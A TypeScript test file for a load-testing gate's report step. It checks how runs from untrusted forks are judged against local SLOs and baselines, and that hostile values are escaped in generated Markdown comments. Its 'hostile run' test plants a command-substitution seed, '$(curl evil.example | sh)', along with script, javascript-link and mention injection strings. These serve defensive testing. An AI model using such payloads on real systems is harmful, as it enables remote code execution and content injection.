import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { GateResult } from '../../src/app/gate.ts';
import { prepare } from '../../src/app/prepare.ts';
import { type ReportPorts, type ReportRequest, reportRun } from '../../src/app/report-run.ts';
import { whyBeyondReason } from '../../src/archive/beyond-reason.ts';
import { parseRun, runToJson } from '../../src/archive/run-codec.ts';
import { GateError } from '../../src/model/errors.ts';
import type { Run } from '../../src/model/run.ts';
import { micros } from '../../src/model/units.ts';
import type { BaselineLookup } from '../../src/ports/baseline-store.ts';
import type { MeasuredLookup } from '../../src/ports/measured-lookup.ts';
import { aShare } from '../support/build-fleet.ts';
import { buildPoint } from '../support/build-history.ts';
import { buildBlock, buildRun, buildScenario } from '../support/build-run.ts';
import { buildBurst, buildWindow } from '../verdict/build-burst.ts';
import { buildLive } from '../verdict/build-live.ts';

const config = (more = ''): string => `
version: 1
gateway: {url: "\${env.URL}"}
limits: {requests: 1000, duration: 60s, concurrency: 30}
scenarios:
  chat: {load: {rate: 20/s, duration: 10s}, endpoint: models, slo: [p95 < 1s]}
${more}`;

const prepareText =
  (text: string): ReportPorts['prepare'] =>
  ({ isLive }) =>
    prepare(
      {
        configPath: 'gatemark.yml',
        configText: text,
        profile: undefined,
        gatewayUrl: 'http://unset.invalid',
        baselineUrl: isLive ? 'http://unset.invalid' : undefined,
        seed: undefined,
        allowedHosts: [],
      },
      {
        files: { readText: () => Promise.reject(), writeText: async (path) => path },
        env: () => 'http://unset.invalid',
        readBeside: () => undefined,
        onSecrets: () => {},
        newId: () => 'new',
      },
    );

const DIGEST = (await prepareText(config())({ isLive: false })).plan.digest;

/** As the configuration here would have it measured. */
const honest = (overrides: Partial<Run> = {}): Run =>
  buildRun({ id: 'theirs', configDigest: DIGEST, scenarios: [buildScenario()], ...overrides });

const foundOf = (run: Run, more: Partial<Extract<MeasuredLookup, { kind: 'found' }>> = {}): MeasuredLookup => ({
  kind: 'found',
  run,
  otherSide: undefined,
  confirmation: undefined,
  ...more,
});

const NO_BASELINE: BaselineLookup = { kind: 'absent', reason: 'none yet', skipped: [] };

const report = async (
  measured: MeasuredLookup,
  {
    text = config(),
    lookup = NO_BASELINE,
    request = {},
  }: { text?: string; lookup?: BaselineLookup; request?: Partial<ReportRequest> } = {},
): Promise<GateResult & { readonly written: ReadonlyMap<string, string> }> => {
  const written = new Map<string, string>();
  const result = await reportRun(
    {
      measured,
      provenance: {
        id: 'workflow-run-7',
        createdAt: '2026-11-02T10:00:00Z',
        origin: { repository: 'mallory/gateway', commit: 'c'.repeat(40), ref: 'refs/heads/x', workflowRunId: 7 },
      },
      remarks: ['Measured by a fork.'],
      configPath: 'gatemark.yml',
      profile: 'pr',
      failOn: ['slo', 'regression'],
      outDir: 'out',
      key: 'default',
      command: 'gatemark run',
      detailsUrl: 'https://github.example/run',
      ...request,
    },
    {
      prepare: prepareText(text),
      baselineStore: { find: async () => lookup },
      files: {
        readText: () => Promise.reject(),
        writeText: async (path, content) => {
          written.set(path, content);
          return `/abs/${path}`;
        },
      },
      say: () => {},
    },
  );
  return { ...result, written };
};

const slow = buildScenario({
  blocks: Array.from({ length: 10 }, (_, index) => buildBlock(index, { ms: { latency: new Array(20).fill(1_500) } })),
});

describe('a run that an untrusted job measured', () => {
  it('is judged by the SLOs that stand here', async () => {
    expect((await report(foundOf(honest()))).report.verdict.status).toBe('pass');
    const { verdict } = (await report(foundOf(honest({ scenarios: [slow] })))).report;
    expect([verdict.status, verdict.slos[0]?.text]).toEqual(['fail', 'p95 < 1s']);
  });

  it('says first where it comes from, and is written like any other', async () => {
    const { report: told, written, files } = await report(foundOf(honest()));
    expect(told.warnings[0]).toBe('Measured by a fork.');
    expect(written.get('out/comment.md')).toContain('> ⚠️ Measured by a fork.');
    expect(files['report.json']).toBe('/abs/out/report.json');
  });

  it('has the identity that the platform gives it, and the bounds of this configuration', async () => {
    const { run } = (await report(foundOf(honest({ origin: { ...honest().origin, repository: 'acme/gateway' } }))))
      .report;
    expect(run).toMatchObject({
      id: 'workflow-run-7',
      createdAt: '2026-11-02T10:00:00Z',
      origin: { repository: 'mallory/gateway', workflowRunId: 7 },
      bounds: { requests: 1_000, concurrency: 30 },
    });
  });

  it('is told where it used more than its limits', async () => {
    const used = { requests: 1_001, duration: micros(1e6), concurrency: 31, tokens: 1e9 };
    const { warnings } = (await report(foundOf(honest({ used })))).report;
    const said = warnings.filter((each) => each.includes('used more than'));
    expect(said.map((each) => /limits\.\w+/.exec(each)?.[0])).toEqual(['limits.requests', 'limits.concurrency']);
  });

  it('is judged also where it says that it is one share of a load, and shows no regions of its own making', async () => {
    const regions = [{ region: 'x', shares: 1, scenarios: [] }];
    const fleet = { count: 1, shares: [aShare(0, { count: 1 })], leftOut: [], regions };
    const { report: told } = await report(foundOf(honest({ share: aShare(1), fleet })));
    expect([told.verdict.status, told.verdict.slos.length, told.run.fleet!.regions]).toEqual(['pass', 1, []]);
  });

  it('is not judged as cut short or cancelled otherwise than a run of our own', async () => {
    const { verdict } = (await report(foundOf(honest({ ending: { kind: 'cancelled', signal: 'SIGINT' } })))).report;
    expect(verdict.status).toBe('invalid');
  });
});

describe('a baseline for it', () => {
  const window = buildWindow(8);
  const lookup: BaselineLookup = {
    kind: 'found',
    runs: window.map((each) => ({ ...each, configDigest: DIGEST })),
    runId: '5',
    skipped: [],
  };
  const regressed = honest({ scenarios: buildBurst({ seed: 90, medianMs: 400 }).scenarios });

  it('is the trusted one of this repository', async () => {
    const result = await report(foundOf(regressed), { lookup });
    expect(result.baseline).toEqual(lookup);
    expect(result.report.verdict.baseline.kind).toBe('stored');
    expect(result.report.verdict.status).toBe('fail');
  });

  it('cannot be thinned out by a run that has the id of one in it', async () => {
    const result = await report(foundOf({ ...regressed, id: window[0]!.id }), { lookup });
    expect(result.report.compared).toHaveLength(8);
  });

  it('has to be failed against twice where there was a second burst', async () => {
    const confirmation = honest({ id: 'again', scenarios: buildBurst({ seed: 91 }).scenarios });
    const second = await report(foundOf(regressed, { confirmation }), { lookup });
    expect(second.report.verdict.status).toBe('inconclusive');
    const other = await report(foundOf(regressed, { confirmation: { ...confirmation, configDigest: 'other' } }), {
      lookup,
    });
    expect(other.report.verdict.status).toBe('fail');
  });

  it('has its history drawn and its release named, and the measured run is in neither', async () => {
    const history = [buildPoint(1), buildPoint(2)];
    const pinned = buildRun({ id: 'v1', configDigest: 'other', origin: { ...buildRun().origin, ref: 'refs/tags/v1' } });
    const { report: told } = await report(foundOf(honest()), { lookup: { ...lookup, history, pinned } });
    expect(told.trend).toMatchObject({ points: history, changes: [], now: { runId: 'workflow-run-7' } });
    expect(told.warnings).toContainEqual(expect.stringMatching(/^The release v1 is not compared with/));
  });

  it('of which some were refused is told', async () => {
    const { warnings } = (await report(foundOf(honest()), { lookup: { ...lookup, skipped: ['artifact 9: a fork'] } }))
      .report;
    expect(warnings).toContain('A stored run was not used as baseline: artifact 9: a fork');
  });
});

describe('two gateways side by side', () => {
  const { run, other } = buildLive({ seed: 5, pairs: 30 });
  const sideOf = (side: 'candidate' | 'baseline') => ({
    configDigest: DIGEST,
    comparison: { id: 'c', side, pairs: 30 },
  });
  const candidate = { ...run, ...sideOf('candidate') };

  it('are compared with one another', async () => {
    const otherSide = { ...other, ...sideOf('baseline') };
    const result = await report(foundOf(candidate, { otherSide }));
    expect(result.report.verdict.baseline).toMatchObject({ kind: 'live', pairs: 30 });
    expect(result.baseline.kind).toBe('absent');
  });

  it.each<[string, Run | undefined, string]>([
    ['is missing', undefined, 'absent'],
    ['is the candidate again', { ...other, ...sideOf('candidate') }, 'absent'],
    [
      'is of another comparison',
      { ...other, ...sideOf('baseline'), comparison: { id: 'd', side: 'baseline', pairs: 30 } },
      'not-comparable',
    ],
  ])('are not where the other side %s', async (_, otherSide, kind) => {
    const result = await report(foundOf(candidate, { otherSide }));
    expect(result.report.verdict.baseline.kind).toBe(kind);
  });

  it('that this configuration has no room for are judged all the same', async () => {
    const text = config().replace('requests: 1000', 'requests: 200');
    const otherSide = { ...other, ...sideOf('baseline') };
    expect((await report(foundOf(candidate, { otherSide }), { text })).report.verdict.baseline.kind).toBe('live');
  });
});

describe('a run of another configuration', () => {
  it('is judged where scenarios have the same name, and says so', async () => {
    const { verdict, warnings } = (await report(foundOf(honest({ configDigest: 'f'.repeat(64), scenarios: [slow] }))))
      .report;
    expect(verdict.status).toBe('fail');
    expect(warnings).toContainEqual(expect.stringContaining('another configuration than this one'));
  });

  it('has nothing of its own scenarios in the report but their names', async () => {
    const added = buildScenario({ name: 'added | <img src=x>\n# here' });
    const { report: told, written } = await report(foundOf(honest({ scenarios: [...honest().scenarios, added] })));
    expect(told.run.scenarios.map(({ name }) => name)).toEqual(['chat']);
    expect(told.warnings).toContain(
      'Not judged, because this configuration has no such scenario: added | <img src=x> # here.',
    );
    expect(written.get('out/comment.md')).not.toContain('<img');
  });

  it('tells of five of its scenarios at most', async () => {
    const added = Array.from({ length: 9 }, (_, index) => buildScenario({ name: `s${index}` }));
    const { warnings } = (await report(foundOf(honest({ scenarios: [...honest().scenarios, ...added] })))).report;
    expect(warnings).toContainEqual(expect.stringContaining('s0, s1, s2, s3, s4, 4 more.'));
  });

  it('with none of the scenarios here is invalid, with the reason', async () => {
    const { verdict } = (await report(foundOf(honest({ scenarios: [buildScenario({ name: 'renamed' })] })))).report;
    expect(verdict.status).toBe('invalid');
    expect(verdict.reasons[0]?.text).toContain('measured no scenario that this configuration has, but renamed');
  });

  it('without one of them is no pass', async () => {
    const text = config('  more: {load: {rate: 1/s, duration: 10s}, endpoint: models, slo: [p95 < 1s]}');
    expect((await report(foundOf(honest()), { text })).report.verdict.status).toBe('inconclusive');
  });
});

describe('no measurement', () => {
  it('is invalid with its reason, whatever would count as failing', async () => {
    const text = config('regression: {require_baseline: true}');
    const { report: told, written } = await report({ kind: 'unusable', reason: 'it was cancelled' }, { text });
    expect(told.verdict.status).toBe('invalid');
    expect(written.get('out/comment.md')).toContain('There is nothing to judge: it was cancelled');
  });
});

describe('a hostile run', () => {
  const HOSTILE =
    '`x` @octocat [a](http://evil.example) <script>\n```mermaid\nclick A href "javascript:x"\n```\n| a | b |';

  it('brings nothing to life in the comment, and no command into the one that people copy', async () => {
    const hostile = honest({
      seed: '$(curl evil.example | sh)',
      gateway: HOSTILE,
      dialect: HOSTILE,
      toolVersion: HOSTILE,
      environment: { ...honest().environment, cpuModel: HOSTILE, image: HOSTILE },
      generator: { ...honest().generator, warnings: Array.from({ length: 50 }, () => HOSTILE), problems: [HOSTILE] },
      scenarios: [
        buildScenario({
          load: HOSTILE,
          failures: [{ errorClass: 'auth', status: 401, detail: HOSTILE, count: 3, requestId: HOSTILE }],
        }),
      ],
    });
    const { report: told, written } = await report(foundOf(hostile));
    expect(told.reproduce).toBe('gatemark run');
    for (const name of ['comment.md', 'summary.md']) {
      const text = written.get(`out/${name}`)!;
      expect(text).toContain('> ⚠️ Measured by a fork.');
      expect(text).not.toMatch(
        /@octocat|<script|\]\(http:\/\/evil|http:\/\/evil|^\| a \| b|curl evil\.example \| sh\)`?$/m,
      );
      expect(text.match(/^```mermaid$/gm) ?? []).toHaveLength(1);
    }
  });

  it('ends in a report or is refused, wherever one of its values is another', async () => {
    const stored: unknown = JSON.parse(runToJson(honest({ generator: { ...honest().generator, warnings: ['x'] } })));
    const places = placesIn(stored);
    const strange = fc.constantFrom<unknown>(0, 1, -1, 1e15, 0.5, '', 'x'.repeat(900), null, [], {}, true);
    await fc.assert(
      fc.asyncProperty(fc.nat(places.length - 1), strange, async (index, value) => {
        const forged = structuredClone(stored);
        const place = places[index]!;
        const parent = place.slice(0, -1).reduce<unknown>((inner, key) => Reflect.get(inner as object, key), forged);
        Reflect.set(parent as object, place.at(-1)!, value);
        const run = readOrRefuse(JSON.stringify(forged));
        if (run !== undefined) expect((await report(foundOf(run))).written.size).toBeGreaterThan(5);
      }),
      { numRuns: 150, seed: 7 },
    );
  });
});

const readOrRefuse = (text: string): Run | undefined => {
  try {
    const run = parseRun(text);
    return whyBeyondReason(run) === undefined ? run : undefined;
  } catch (error) {
    expect(error).toBeInstanceOf(GateError);
    return undefined;
  }
};

/** The path of every value in a JSON value. */
const placesIn = (value: unknown): (readonly string[])[] =>
  typeof value !== 'object' || value === null
    ? []
    : Object.entries(value).flatMap(([key, inner]) => [[key], ...placesIn(inner).map((rest) => [key, ...rest])]);
